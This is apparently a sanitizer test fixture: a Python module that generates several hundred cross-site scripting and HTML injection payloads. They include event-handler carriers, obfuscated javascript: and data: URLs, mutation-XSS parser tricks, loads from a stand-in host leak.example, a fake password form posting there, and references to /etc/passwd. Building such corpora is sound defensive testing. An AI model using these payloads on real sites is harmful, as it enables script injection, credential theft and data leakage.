"""What people write to make a page run, load or pretend something: known tricks, and their combinations."""

from __future__ import annotations

from itertools import product

RUN = "pwned()"
LOAD = "https://leak.example/"
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "onpointerenter", "ontoggle", "onanimationstart",
    "onwheel", "onbeforeinput", "onscrollsnapchange", "onpageshow",
)  # fmt: skip
CARRIERS = (
    "<img src=x {h}={r}>", '<svg {h}="{r}">', "<body {h}={r}>", "<input autofocus {h}='{r}'>", "<details open {h}={r}>x</details>",
    "<video src=x {h}={r}>", "<a href=https://a.example {h}={r}>x</a>", "<p/{h}={r}>x", "<div\n{h}\n=\n{r}>x</div>",
    '<img/src="x"{h}={r}//>', "<marquee {h}={r}>x</marquee>", "<table {h}={r}><td>x</table>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{r}", "JaVaScRiPt:{r}", "java\nscript:{r}", "java\tscript:{r}", "&#106;avascript:{r}", "&#x6A;avascript&colon;{r}",
    "javascript&#58;{r}", "\x01javascript:{r}", " javascript:{r}", "java&Tab;script:{r}", "java&NewLine;script:{r}", "vbscript:{r}",
    "data:text/html,<script>{r}</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "DATA:text/html,x",
    "data:image/svg+xml,<svg onload={r}>", "blob:https://a.example/1", "file:///etc/passwd", "javascript://a.example/%0a{r}",
    "view-source:javascript:{r}", "feed:javascript:{r}", "//leak.example/x", "/\\leak.example/x", "https:leak.example", "http:/leak.example",
    "intent://x#Intent;end", "https://a.example\\@leak.example/", "http://[::1]/", "ftp://leak.example/x", "\u2028javascript:{r}",
)  # fmt: skip
PLACES = (
    '<a href="{a}">x</a>', '<img src="{a}">', '<area href="{a}">', '<form action="{a}"><button>x</button></form>', '<iframe src="{a}"></iframe>',
)  # fmt: skip
TRICKS = (
    "<script>{r}</script>", "<SCRIPT>{r}</SCRIPT>", "<script\n>{r}</script\n>", "<script/x>{r}</script/x>", "<scr<script>ipt>{r}</scr</script>ipt>",
    "<script src={l}x.js></script>", "<script type=module>{r}</script>", "<<script>{r}//<</script>", "<script>{r}", "\x00<script>{r}</script>",
    "<svg><script>{r}</script></svg>", "<svg><script xlink:href=data:,{r} />", "<svg><animate onbegin={r} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{r}><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><set attributeName=onmouseover to={r}>", "<svg><foreignObject><script>{r}</script></foreignObject></svg>",
    "<svg><style><img src=x onerror={r}></style></svg>", "<svg></p><style><a id='</style><img src=1 onerror={r}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={r}&gt;'>",
    "<math><mi//xlink:href='data:x,<script>{r}</script>'>", "<math href=javascript:{r}>x</math>", "<math><annotation-xml encoding=text/html><script>{r}</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={r}>",
    "<noscript><p title='</noscript><img src=x onerror={r}>'>", "<noembed><p title='</noembed><img src=x onerror={r}>'>",
    "<style><p title='</style><img src=x onerror={r}>'>", "<title><p title='</title><img src=x onerror={r}>'>",
    "<textarea><p title='</textarea><img src=x onerror={r}>'>", "<xmp><p title='</xmp><img src=x onerror={r}>'>",
    "<iframe><p title='</iframe><img src=x onerror={r}>'>", "<noframes><p title='</noframes><img src=x onerror={r}>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={r}>'>",
    "<plaintext><script>{r}</script>", "<template><script>{r}</script></template>", "<template shadowrootmode=open><script>{r}</script></template>",
    "<iframe srcdoc='<script>{r}</script>'></iframe>", "<iframe src={l}></iframe>", "<frameset onload={r}><frame src={l}></frameset>",
    "<object data={l}x.swf></object>", "<object data='data:text/html,<script>{r}</script>'>", "<embed src={l}x>", "<applet code=x archive={l}>",
    "<base href={l}><a href=x>x</a>", "<base href=javascript:/><a href=//{r}>x</a>", "<meta http-equiv=refresh content='0;url={l}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{r}'>", "<meta http-equiv=Content-Security-Policy content=script-src>", "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href={l}x.css>", "<link rel=prefetch href={l}>", "<link rel=dns-prefetch href={l}>", "<link rel=import href={l}>",
    "<style>@import '{l}x.css';</style>", "<style>*{{background:url({l})}}</style>", "<p style='background:url({l})'>x</p>", "<p style=\"width:expression({r})\">x</p>",
    "<p style=\"behavior:url({l})\">x</p>", "<p style='-moz-binding:url({l})'>x</p>", "<table background={l}><td background={l}>x</table>",
    "<body background={l}>", "<img src={l}x.png>", "<img srcset='{l}a 1x, {l}b 2x'>", "<img src=x srcset={l}>", "<picture><source srcset={l}><img src=x></picture>",
    "<img lowsrc={l}>", "<img dynsrc={l}>", "<img src='{l}x.png' crossorigin=use-credentials>", "<image src={l}x.png>", "<image href={l}x.png onerror={r}>",
    "<input type=image src={l}x>", "<video poster={l}x></video>", "<video><source src={l}x onerror={r}></video>", "<audio src={l}x autoplay></audio>", "<track src={l}>",
    "<a href=https://a.example ping={l}>x</a>", "<a href=https://a.example download>x</a>", "<a target=_top href=https://a.example>x</a>",
    "<form action={l}><input name=password><button>Sign in</button></form>", "<button formaction=javascript:{r}>x</button>", "<isindex action=javascript:{r} type=image>",
    "<input type=password autocomplete=current-password>", "<keygen autofocus onfocus={r}>", "<select autofocus onfocus={r}>", "<textarea autofocus onfocus={r}>",
    "<dialog open onclose={r}>x</dialog>", "<portal src={l}>", "<fencedframe src={l}>", "<x onclick={r} id=x tabindex=1>x</x>", "<p contenteditable onfocus={r} autofocus>x",
    "<b onclick=alert`1`>x</b>", "<div id=x name=y class=z>clobber</div>", "<form id=x><output name=y>z</output></form>", "<a id=defaultView name=x href=cid:{r}>x</a>",
    "<p slot=x is=y data-insert=draft hx-get={l} hx-trigger=load>x</p>", "<div hx-on:load={r} data-hx-get={l}>x</div>", "<a data-copy=reply data-move>x</a>",
    "<p popover id=keys>x</p>", "<button popovertarget=keys>x</button>", "<details class=menu open><summary>x</summary></details>",
    "<!--><script>{r}</script>-->", "<!--[if gte IE 4]><script>{r}</script><![endif]-->", "<!-- --!><script>{r}</script>", "<!doctype html [<!ENTITY x '<script>{r}</script>'>]>&x;",
    "<?xml version='1.0'?><script>{r}</script>", "<? <script>{r}</script> ?>", "<![CDATA[<script>{r}</script>]]>", "</br/ onclick={r}><p>x", "<//><script>{r}</script>",
    "<img src=x onerror=&#112;wned()>", "<img \"\"\"><script>{r}</script>\">", "<img src=`x`onerror={r}>", "<img src='x'onerror='{r}'>", "<a href='x'onclick='{r}'>x</a>",
    "<img/ /src=x/ /onerror={r}>", "<img\x0csrc=x\x0conerror={r}>", "<img\x0bsrc=x onerror={r}>", "<img src=x\x00onerror={r}>", "<im\x00g src=x onerror={r}>",
    "<p title=\"</p><script>{r}</script>\">x</p>", "<a title='\"><script>{r}</script>' href=https://a.example>x</a>", "<p title=`<script>{r}</script>`>x</p>", "&lt;script&gt;{r}&lt;/script&gt;",
    "<a href=\"https://a.example/?x=&quot; onclick=&quot;{r}\">x</a>", "<a href='https://a.example/\" onclick=\"{r}'>x</a>", "<img alt='\" onerror=\"{r}' src=x>",
    "<img alt=\"&quot;&gt;&lt;script&gt;{r}&lt;/script&gt;\" src=x>", "<img src=https://a.example/x.png alt='<script>{r}</script>'>", "<p lang='en\" onclick=\"{r}'>x</p>",
    "<a href=https://a.example><a href=javascript:{r}>x</a></a>", "<table><a href=javascript:{r}><tr><td>x", "<b><p></b><script>{r}</script>", "<p>" * 500 + "<script>{r}</script>",
    "<div>" * 500 + "<script>{r}</script>", "<b><i><u>" * 99 + "<img src=x onerror={r}>", "<table>" * 120 + "<script>{r}</script>", "<select>" + "<option>" * 40 + "<script>{r}</script>",
    "<svg " + "a=b " * 60 + "onload={r}>", "<p " + "a=b " * 60 + "onclick={r}>x", "+ADw-script+AD4-{r}+ADw-/script+AD4-", "<ſcript>{r}</ſcript>", "<sCrIpT>{r}</ScRiPt >",
    "＜script＞{r}＜/script＞", "<scrıpt>{r}</scrıpt>", "<img src=https://a.example/x.png width=1 height=1>", "<font color=red onmouseover={r}>x</font>", "<center onclick={r}>x</center>",
    "<link rel=stylesheet href='data:text/css,*{{x:y}}'>", "<meta charset=utf-7>", "<bgsound src=javascript:{r}>", "<layer src={l}></layer>", "<xss style=behavior:url({l})>", "<event-source src={l}>",
    "<span class='host blocked' onclick={r}>(bank.example)</span>", "<span class=btn>x</span>", "<math><mtext></math><script>{r}</script>", "<a href=mailto:a@b.example?bcc=c@d.example&attach=/etc/passwd>x</a>",
)  # fmt: skip


def corpus() -> list[str]:
    """Each of them once; more than the 300 the requirement names (WEB-1)."""
    found = [one.format(h=handler, r=RUN) for one, handler in product(CARRIERS, HANDLERS)]
    found += [place.format(a=address.format(r=RUN)) for place, address in product(PLACES, ADDRESSES)]
    found += [one.format(r=RUN, l=LOAD) for one in TRICKS]
    return list(dict.fromkeys(found))
